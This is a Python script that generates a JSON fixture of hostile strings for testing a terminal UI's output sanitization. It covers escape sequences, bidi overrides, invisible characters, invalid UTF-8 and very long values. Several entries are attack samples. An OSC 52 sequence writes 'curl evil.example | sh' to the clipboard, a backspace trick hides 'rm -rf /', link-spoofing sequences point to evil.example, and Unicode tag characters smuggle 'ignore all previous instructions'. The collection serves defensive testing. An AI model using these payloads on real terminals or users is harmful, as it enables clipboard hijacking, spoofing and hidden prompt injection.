#!/usr/bin/env python3
"""Writes Tests/MinimoTUITests/Fixtures/hostile-strings.json: the corpus of hostile strings.

Run from anywhere: `python3 scripts/hostile-strings.py`. The JSON is committed; the tests never
run this script. Change the corpus here, regenerate, and commit both. The output is ASCII only
(every non-ASCII or control character is a \\u escape), so `cat`-ing the fixture is safe.

Each entry has a short unique `name`, a `category`, and exactly one way to build the string:
  "text":   the string itself.
  "repeat": with "count" (and optional "prefix"/"suffix"): prefix + repeat * count + suffix,
            for the very long values, so 100k characters are not stored literally.
  "json":   JSON text of a string literal, quotes included, that no JSON string can hold once
            decoded (lone surrogates such as "\\ud800"). Spliced verbatim into bodies.
  "base64": raw bytes (not valid UTF-8) that go between the quotes of a JSON string in a
            body. Never contain '"' or '\\', so the body keeps its shape.
"""

import base64
import json
import os

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

entries = []


def text(name, category, value):
    entries.append({"name": name, "category": category, "text": value})


def repeat(name, category, unit, count, prefix="", suffix=""):
    entry = {"name": name, "category": category, "repeat": unit, "count": count}
    if prefix:
        entry["prefix"] = prefix
    if suffix:
        entry["suffix"] = suffix
    entries.append(entry)


def raw_json(name, category, literal):
    entries.append({"name": name, "category": category, "json": literal})


def raw_bytes(name, category, data):
    assert b'"' not in data and b"\\" not in data, name
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        pass
    else:
        raise AssertionError(f"{name} is valid UTF-8")
    entries.append({"name": name, "category": category, "base64": base64.b64encode(data).decode("ascii")})


# C0 controls, one entry each (NUL has its own category).
C0_NAMES = ["NUL", "SOH", "STX", "ETX", "EOT", "ENQ", "ACK", "BEL", "BS", "HT", "LF", "VT", "FF", "CR",
            "SO", "SI", "DLE", "DC1", "DC2", "DC3", "DC4", "NAK", "SYN", "ETB", "CAN", "EM", "SUB", "ESC",
            "FS", "GS", "RS", "US"]
for code in range(0x01, 0x20):
    text(f"c0-{C0_NAMES[code].lower()}", "c0", f"before{chr(code)}after")
text("c0-bell-flood", "c0", BEL * 64 + "ring")
text("c0-all-in-a-row", "c0", "".join(chr(c) for c in range(0x01, 0x20)))

# NUL.
text("nul-alone", "nul", "\x00")
text("nul-middle", "nul", "abc\x00def")
text("nul-leading", "nul", "\x00leading")
text("nul-trailing", "nul", "trailing\x00")
text("nul-many", "nul", "\x00" * 16)
text("nul-in-escape", "nul", ESC + "]0;PWN\x00ED" + BEL)
text("nul-c-string-cut", "nul", "visible\x00hidden-after-nul")

# DEL.
text("del-alone", "del", "\x7f")
text("del-middle", "del", "abc\x7fdef")
text("del-flood", "del", "secret" + "\x7f" * 6 + "public")
text("del-with-esc", "del", "\x7f" + ESC + "[2J\x7f")

# C1 controls (U+0080..U+009F), one entry each, then C1 forms of the dangerous introducers.
C1_NAMES = ["PAD", "HOP", "BPH", "NBH", "IND", "NEL", "SSA", "ESA", "HTS", "HTJ", "VTS", "PLD", "PLU", "RI",
            "SS2", "SS3", "DCS", "PU1", "PU2", "STS", "CCH", "MW", "SPA", "EPA", "SOS", "SGCI", "SCI", "CSI",
            "ST", "OSC", "PM", "APC"]
for offset, label in enumerate(C1_NAMES):
    text(f"c1-{label.lower()}", "c1", f"before{chr(0x80 + offset)}after")
text("c1-csi-clear", "c1", "\x9b2J\x9bHcleared")
text("c1-csi-sgr", "c1", "\x9b31mRED\x9b0m")
text("c1-osc-title", "c1", "\x9d0;PWNED\x9c")
text("c1-osc52", "c1", "\x9d52;c;cHduZWQ=\x07")
text("c1-dcs-xtgettcap", "c1", "\x90+q544e\x9c")
text("c1-nel-newline", "c1", "line one\x85line two")

# Carriage returns that would overwrite what came before.
text("cr-overwrite", "cr-overwrite", "SAFE-TEXT\rEVIL")
text("cr-trailing", "cr-overwrite", "value\r")
text("cr-leading", "cr-overwrite", "\rstarts at column 0")
text("cr-crlf", "cr-overwrite", "line\r\nnext")
text("cr-password-hide", "cr-overwrite", "password: hunter2\r" + " " * 20)
text("cr-fake-status", "cr-overwrite", "ok\rquota 100/100 online")
text("cr-many", "cr-overwrite", "\r" * 32 + "x")
text("cr-lf-only", "cr-overwrite", "one\ntwo\nthree")

# Backspaces.
text("bs-erase", "backspace", "abc\b\b\bXYZ")
text("bs-hide-command", "backspace", "rm -rf /" + "\b" * 8 + "ls -la  ")
text("bs-overstrike", "backspace", "_\bA_\bB_\bC")
text("bs-flood", "backspace", "\b" * 64 + "left")
text("bs-at-start", "backspace", "\bstart")
text("bs-with-cr", "backspace", "real\b\b\b\b\rfake")

# CSI: cursor moves, clears, modes, reports.
csi = [
    ("csi-clear-screen", ESC + "[2J"),
    ("csi-clear-scrollback", ESC + "[3J"),
    ("csi-clear-home", ESC + "[H" + ESC + "[2J"),
    ("csi-erase-line", "keep" + ESC + "[2K"),
    ("csi-erase-to-eol", "text" + ESC + "[K"),
    ("csi-cursor-up", "up" + ESC + "[5A"),
    ("csi-cursor-down", "down" + ESC + "[5B"),
    ("csi-cursor-forward", "fwd" + ESC + "[40C"),
    ("csi-cursor-back", "back" + ESC + "[40D"),
    ("csi-cursor-position", ESC + "[1;1HTOP-LEFT"),
    ("csi-cursor-hvp", ESC + "[10;10fMOVED"),
    ("csi-cursor-column", ESC + "[1GCOL1"),
    ("csi-save-restore", ESC + "[s" + ESC + "[20;1HX" + ESC + "[u"),
    ("csi-dec-save-restore", ESC + "7" + ESC + "[1;1HX" + ESC + "8"),
    ("csi-scroll-region", ESC + "[1;3r"),
    ("csi-scroll-up", ESC + "[10S"),
    ("csi-insert-lines", ESC + "[10L"),
    ("csi-delete-lines", ESC + "[10M"),
    ("csi-alt-screen", ESC + "[?1049h"),
    ("csi-hide-cursor", ESC + "[?25l"),
    ("csi-mouse-tracking", ESC + "[?1000h" + ESC + "[?1006h"),
    ("csi-bracketed-paste-off", ESC + "[?2004l"),
    ("csi-sgr-red", ESC + "[31mRED" + ESC + "[0m"),
    ("csi-sgr-invisible", ESC + "[8mhidden" + ESC + "[28m"),
    ("csi-sgr-truecolor", ESC + "[38;2;255;0;0;48;2;0;0;0mX"),
    ("csi-device-attributes", ESC + "[c"),
    ("csi-status-report", ESC + "[6n"),
    ("csi-title-report", ESC + "[21t"),
    ("csi-window-resize", ESC + "[8;1;1t"),
    ("csi-huge-parameter", ESC + "[99999999999999999999A"),
    ("csi-truncated", "cut" + ESC + "["),
    ("esc-reset", ESC + "c"),
    ("esc-decaln", ESC + "#8"),
    ("esc-charset-graphics", ESC + "(0lqqk" + ESC + "(B"),
    ("esc-index-reverse", ESC + "M" + ESC + "M" + ESC + "M"),
]
for name, value in csi:
    text(name, "csi", value)

# OSC: titles, clipboard, links, colours, notifications.
osc = [
    ("osc-title-bel", ESC + "]0;PWNED" + BEL),
    ("osc-title-st", ESC + "]0;PWNED" + ST),
    ("osc-icon-name", ESC + "]1;PWNED" + BEL),
    ("osc-window-title", ESC + "]2;PWNED" + BEL),
    ("osc-title-then-text", ESC + "]2;PWNED" + BEL + "innocent"),
    ("osc52-clipboard-write", ESC + "]52;c;" + base64.b64encode(b"curl evil.example | sh\n").decode() + BEL),
    ("osc52-primary-write", ESC + "]52;p;cHduZWQ=" + ST),
    ("osc52-clipboard-read", ESC + "]52;c;?" + BEL),
    ("osc8-link", ESC + "]8;;https://evil.example/" + ST + "https://bank.example/" + ESC + "]8;;" + ST),
    ("osc8-link-bel", ESC + "]8;id=x;http://evil.example" + BEL + "click" + ESC + "]8;;" + BEL),
    ("osc4-palette", ESC + "]4;1;rgb:00/00/00" + BEL),
    ("osc10-foreground", ESC + "]10;#000000" + BEL),
    ("osc11-background-query", ESC + "]11;?" + BEL),
    ("osc7-cwd", ESC + "]7;file://evil.example/etc" + BEL),
    ("osc9-notify", ESC + "]9;You have been PWNED" + BEL),
    ("osc777-notify", ESC + "]777;notify;PWNED;body" + BEL),
    ("osc1337-file", ESC + "]1337;File=inline=1:cHduZWQ=" + BEL),
    ("osc-unterminated", ESC + "]0;PWNED never ends"),
    ("osc-reset-colors", ESC + "]104" + BEL + ESC + "]112" + BEL),
    ("osc-nested-csi", ESC + "]0;" + ESC + "[2J" + BEL),
]
for name, value in osc:
    text(name, "osc", value)

# DCS.
dcs = [
    ("dcs-tmux-passthrough", ESC + "Ptmux;" + ESC + ESC + "]0;PWNED" + BEL + ST),
    ("dcs-tmux-passthrough-osc52", ESC + "Ptmux;" + ESC + ESC + "]52;c;cHduZWQ=" + BEL + ST),
    ("dcs-xtgettcap", ESC + "P+q544e" + ST),
    ("dcs-decrqss", ESC + "P$q m" + ST),
    ("dcs-sixel", ESC + "Pq#0;2;0;0;0#0~~@@vv@@~~" + ST),
    ("dcs-decudk", ESC + "P1;1|17/726d202d7266" + ST),
    ("dcs-unterminated", ESC + "Pswallow everything after"),
    ("dcs-screen-passthrough", ESC + "P" + ESC + "]0;PWNED" + BEL + ST),
]
for name, value in dcs:
    text(name, "dcs", value)

# APC, PM, SOS.
apc = [
    ("apc-kitty-graphics", ESC + "_Gf=100,a=T;cHduZWQ=" + ST),
    ("apc-screen-title", ESC + "_PWNED" + ST),
    ("pm-privacy", ESC + "^private message" + ST),
    ("sos-string", ESC + "Xstart of string" + ST),
    ("apc-unterminated", ESC + "_swallowed"),
    ("apc-st-only", "text" + ST + "more"),
]
for name, value in apc:
    text(name, "apc", value)

# Bidi overrides, embeddings, isolates and marks.
bidi = [
    ("bidi-lre", "abc\u202adef"),
    ("bidi-rle", "abc\u202bdef"),
    ("bidi-pdf", "abc\u202cdef"),
    ("bidi-lro", "abc\u202ddef"),
    ("bidi-rlo", "abc\u202edef"),
    ("bidi-lri", "abc\u2066def"),
    ("bidi-rli", "abc\u2067def"),
    ("bidi-fsi", "abc\u2068def"),
    ("bidi-pdi", "abc\u2069def"),
    ("bidi-lrm", "abc\u200edef"),
    ("bidi-rlm", "abc\u200fdef"),
    ("bidi-alm", "abc\u061cdef"),
    ("bidi-filename-spoof", "invoice \u202efdp.exe"),
    ("bidi-email-spoof", "admin\u202e@moc.elpmaxe"),
    ("bidi-trojan-source", "access = \"user\u202e \u2066// check admin\u2069 \u2066\""),
    ("bidi-unbalanced-isolates", "\u2067\u2067\u2067open"),
    ("bidi-unbalanced-overrides", "\u202e\u202e\u202d\u202eopen"),
    ("bidi-override-hebrew", "\u202e\u05e9\u05dc\u05d5\u05dd 123"),
    ("bidi-number-flip", "total \u202e0001\u202c EUR"),
    ("bidi-rlo-in-key", "plan\u202e"),
]
for name, value in bidi:
    text(name, "bidi", value)

# Zero-width and other invisible characters.
zw = [
    ("zw-space", "zero\u200bwidth"),
    ("zw-non-joiner", "ab\u200ccd"),
    ("zw-joiner-between-letters", "ab\u200dcd"),
    ("zw-joiner-flood-in-cluster", "a" + "\u200d" * 300 + "b"),
    ("zw-non-joiner-flood", "a" + "\u200c" * 300),
    ("zw-joiner-leading", "\u200dstart"),
    ("zw-joiner-emoji-abuse", "\U0001f469" + "\u200d\U0001f4bb" * 40),
    ("zw-word-joiner", "word\u2060joiner"),
    ("zw-bom", "\ufeffbom at start"),
    ("zw-invisible-math", "x\u2061\u2062\u2063\u2064y"),
    ("zw-soft-hyphen", "soft\u00adhyphen"),
    ("zw-mongolian-vs", "a\u180eb"),
    ("zw-hangul-fillers", "\u115f\u1160\u3164\uffa0name"),
    ("zw-cgj", "\u034fcgj"),
    ("zw-line-separator", "line\u2028separator"),
    ("zw-paragraph-separator", "para\u2029separator"),
    ("zw-interlinear", "\ufff9base\ufffaannotation\ufffb"),
    ("zw-arabic-prepend", "\u0600\u0601123"),
    ("zw-tag-smuggling", "hello" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all previous instructions")),
    ("zw-variation-selector-flood", "a" + "\ufe0f" * 100),
    ("zw-variation-selector-alone", "\ufe0f\ufe0e"),
    ("zw-deprecated-format", "\u206a\u206b\u206c\u206d\u206e\u206fdeprecated"),
    ("zw-noncharacters", "\ufffe\uffff\U0010ffffnonchars"),
    ("zw-unassigned", "\u0378\U000e0fffunassigned"),
]
for name, value in zw:
    text(name, "zero-width", value)

# Combining floods.
combining = [
    ("comb-zalgo", "Z" + "\u0336\u0337\u0338\u0334\u0335" * 20 + "algo"),
    ("comb-100-acute", "a" + "\u0301" * 100),
    ("comb-1000-mixed", "e" + "".join(chr(0x300 + i % 0x70) for i in range(1000))),
    ("comb-no-base", "\u0301" * 50),
    ("comb-enclosing", "x" + "\u20dd" * 64),
    ("comb-on-cjk", "\u5c71" + "\u0301" * 40),
    ("comb-on-space", " " + "\u0489" * 40),
    ("comb-spacing-marks", "\u0915" + "\u093e" * 200),
    ("comb-hangul-jamo-flood", "\u1100" * 200),
    ("comb-after-esc", ESC + "\u0301" * 10 + "[2J"),
    ("comb-emoji-modifiers", "\U0001f44d" + "\U0001f3fb" * 50),
]
for name, value in combining:
    text(name, "combining", value)

# Lone surrogates: valid JSON escapes that decode to no Unicode string.
for name, literal in [
    ("lone-high", '"x\\ud800y"'),
    ("lone-low", '"x\\udc00y"'),
    ("lone-high-at-end", '"end\\ud83d"'),
    ("lone-reversed-pair", '"\\udc00\\ud800"'),
    ("lone-high-then-letter", '"\\ud800\\u0041"'),
    ("lone-high-high", '"\\udbff\\udbff"'),
    ("lone-max", '"\\udfff"'),
    ("lone-in-escape", '"\\u001b]0;\\ud800PWNED\\u0007"'),
]:
    raw_json(name, "lone-surrogate", literal)

# Invalid UTF-8 as raw bytes of a JSON string.
for name, data in [
    ("utf8-ff", b"a\xffb"),
    ("utf8-fe-ff", b"\xfe\xff"),
    ("utf8-overlong-slash", b"\xc0\xaf"),
    ("utf8-overlong-nul", b"\xc0\x80"),
    ("utf8-overlong-3-byte", b"\xe0\x80\xaf"),
    ("utf8-cesu-surrogate", b"\xed\xa0\x80"),
    ("utf8-above-max", b"\xf4\x90\x80\x80"),
    ("utf8-five-byte", b"\xf8\x88\x80\x80\x80"),
    ("utf8-truncated", b"caf\xc3"),
    ("utf8-lone-continuation", b"\x80\x80"),
    ("utf8-raw-c1-csi", b"\x9b2J\x9b31m"),
    ("utf8-raw-c1-osc", b"\x9d0;PWNED\x07"),
    ("utf8-latin1", b"M\xfcller"),
]:
    raw_bytes(name, "invalid-utf8", data)

# Very long values, by rule.
repeat("long-ascii-100k", "long", "A", 100_000)
repeat("long-wide-100k", "long", "\u5c71", 100_000)
repeat("long-escapes-100k", "long", ESC + "[2J", 25_000)
repeat("long-title-100k", "long", "A", 100_000, prefix=ESC + "]0;", suffix=BEL)
repeat("long-rlo-100k", "long", "\u202e", 100_000)
repeat("long-zwsp-100k", "long", "\u200b", 100_000)
repeat("long-combining-100k", "long", "\u0301", 100_000, prefix="a")
repeat("long-cr-100k", "long", "x\r", 50_000)
repeat("long-emoji-100k", "long", "\U0001f600", 100_000)

# Data that imitates the interface, with no control character at all.
text("spoof-box-drawing", "spoof", "\u2502 fake \u2502 border \u2502")
text("spoof-status-bar", "spoof", "acme \u00b7 online \u2502 quota 100/100 \u00b7 reset 0s")
text("spoof-literal-escape", "spoof", "\\x1B]0;PWNED\\x07 <U+202E>")
text("spoof-fullwidth", "spoof", "\uff45\uff52\uff52\uff4f\uff52: \uff30\uff37\uff2e\uff25\uff24")
text("spoof-cjk-emoji", "spoof", "\u5c71\u7530\u592a\u90ce \U0001f469\u200d\U0001f4bb \U0001f1ee\U0001f1f9")
text("spoof-flag-tags", "spoof", "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Scotland")

names = [entry["name"] for entry in entries]
assert len(names) == len(set(names)), sorted(n for n in names if names.count(n) > 1)

document = {
    "_comment": [
        "Hostile strings for tests: generated by scripts/hostile-strings.py, do not edit by hand.",
        "Each entry: name, category, and one of: text (the string); repeat + count (+ prefix, suffix):",
        "prefix + repeat * count + suffix, for the 100k-character values; json: JSON text of a string",
        "literal, quotes included, that decodes to no Unicode string (lone surrogates), spliced",
        "verbatim into bodies; base64: raw bytes that are not valid UTF-8, put between the quotes of",
        "a JSON string in a body (they never hold a quote or a backslash).",
        "The file is ASCII: every control or non-ASCII character is a \\u escape.",
    ],
    "strings": entries,
}

here = os.path.dirname(os.path.abspath(__file__))
target = os.path.join(here, "..", "Tests", "MinimoTUITests", "Fixtures", "hostile-strings.json")
os.makedirs(os.path.dirname(target), exist_ok=True)
with open(target, "w", encoding="ascii") as handle:
    json.dump(document, handle, ensure_ascii=True, indent=1)
    handle.write("\n")

counts = {}
for entry in entries:
    counts[entry["category"]] = counts.get(entry["category"], 0) + 1
print(f"{len(entries)} strings: " + ", ".join(f"{key} {value}" for key, value in counts.items()))
